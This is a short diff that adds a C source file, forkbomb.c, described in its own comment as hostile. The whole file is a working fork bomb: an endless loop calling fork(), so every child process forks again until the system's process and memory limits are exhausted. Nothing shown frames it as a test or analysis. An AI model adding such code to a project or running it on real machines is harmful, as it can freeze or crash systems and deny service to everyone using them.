@@ -1,0 +1,7 @@
+/* forkbomb.c -- hostile: forks without end; every child forks too. */
+#include <unistd.h>
+int main(void)
+{
+    for (;;)
+        fork();
+}
